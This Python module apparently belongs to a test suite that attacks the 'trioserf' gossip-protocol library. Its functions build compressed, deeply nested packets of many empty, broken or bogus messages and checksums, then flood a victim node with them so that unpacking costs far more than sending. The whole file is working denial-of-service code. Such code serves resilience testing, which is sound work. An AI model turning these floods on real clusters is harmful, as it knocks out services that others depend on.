"""Attacks by packets of many pieces, which cost more to take apart than to send.

Each is a function of an `Attacker` that returns when it is over.
"""

from __future__ import annotations

import itertools
import socket
import struct
from collections.abc import Sequence

from trioserf._wire.compression import compress_message
from trioserf._wire.messages import Ack, ErrorReply, Nack, Ping, encode_message

from . import crafting
from .attacker import Attacker


def compound(parts: Sequence[bytes]) -> bytes:
    """A compound whose parts may be empty, as no node makes it."""
    return struct.pack(f">BB{len(parts)}H", 7, len(parts), *map(len, parts)) + b"".join(parts)


def many(piece: bytes, count: int = 1000) -> bytes:
    """So many pieces, all alike, in a compound of compounds."""
    return compound([compound([piece] * 200) for _ in range(count // 200)])


async def pieces_alike(attacker: Attacker) -> None:
    """Packets of a thousand nacks, acks, unknown or broken messages, compressed to a few bytes."""
    pieces = (
        encode_message(Nack(77_777_777)),
        encode_message(Ack(77_777_777, None)),
        encode_message(ErrorReply("x")),
        b"",
        b"\x63",
        b"\x0b\xc1",
        b"\x08\x03\x80",
    )
    pool = itertools.cycle([compress_message(many(piece)) for piece in pieces])
    await attacker.flood(pool)


async def pieces_compressed(attacker: Attacker) -> None:
    """Packets of hundreds of messages, each compressed for itself."""
    nack = encode_message(Nack(77_777_777))
    tiny = compress_message(nack)
    broken = crafting.compressed(nack)[:-2] + b"\xff\xff"
    pool = itertools.cycle(
        [
            compound([tiny] * (1300 // len(tiny))),
            many(tiny, 600),
            many(broken, 600),
            compress_message(many(tiny, 400)),
            compress_message(many(compress_message(b""), 400)),
        ]
    )
    await attacker.flood(pool)


async def pieces_of_pings(attacker: Attacker) -> None:
    """Packets of hundreds of pings, for the victim and for nobody."""
    host = socket.inet_aton(attacker.host)
    right = encode_message(Ping(1, attacker.victim, host, 9, "nobody"))
    wrong = encode_message(Ping(1, "nobody"))
    old = encode_message(Ping(1, ""))
    pool = itertools.cycle([compress_message(many(each, 600)) for each in (right, wrong, old)])
    await attacker.flood(pool)


async def checksums(attacker: Attacker) -> None:
    """Long packets with a checksum, right and wrong, of what means nothing inside."""
    body = compress_message(many(b"\x0b\xc1"))
    right = b"\x0c" + crafting.crc(body) + body
    wrong = b"\x0c\x00\x00\x00\x00" + bytes(60_000)
    twice = b"\x0c" + crafting.crc(right) + right
    await attacker.flood(itertools.cycle((right, wrong, twice, compound([right] * 9))))
